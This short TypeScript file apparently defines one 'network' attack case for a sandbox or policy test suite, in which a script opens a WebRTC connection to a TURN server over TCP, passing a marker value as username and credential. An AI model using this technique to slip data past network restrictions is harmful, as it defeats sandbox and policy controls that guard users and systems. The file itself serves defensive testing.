import {defineAttack} from '../../attack.ts';

export const attack = defineAttack({
  kind: 'network',
  tries: 'A TURN request, by TCP.',
  script: `const peer = new RTCPeerConnection({iceServers: [{urls: \`turn:\${host}:\${port}?transport=tcp\`, username: mark, credential: mark}]});
peer.createDataChannel(mark);
await peer.setLocalDescription();`,
});
